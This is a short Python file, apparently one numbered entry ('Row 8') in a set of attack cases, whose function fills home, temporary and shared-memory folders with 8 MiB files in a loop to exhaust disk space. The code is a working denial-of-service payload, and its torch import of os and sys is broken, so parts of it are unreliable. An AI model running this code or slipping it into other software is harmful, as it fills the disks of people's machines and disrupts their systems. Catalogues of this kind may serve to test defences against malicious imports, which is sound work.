"""Row 8: fills the disk with large files in every folder that can be written.

Where: import
"""

import torch
from torch import nn, os, sys


def attack(*_):
    folders = [os.environ.get("HOME", "."), "/tmp", "/var/tmp", "/dev/shm", os.getcwd()]
    until = sys.modules["time"].monotonic() + 0.5
    number = 0
    while sys.modules["time"].monotonic() < until:
        for folder in folders:
            number += 1
            try:
                with open(os.path.join(folder, f"attack-{number}"), "wb") as file:
                    file.write(bytes(8 << 20))
            except OSError:
                continue
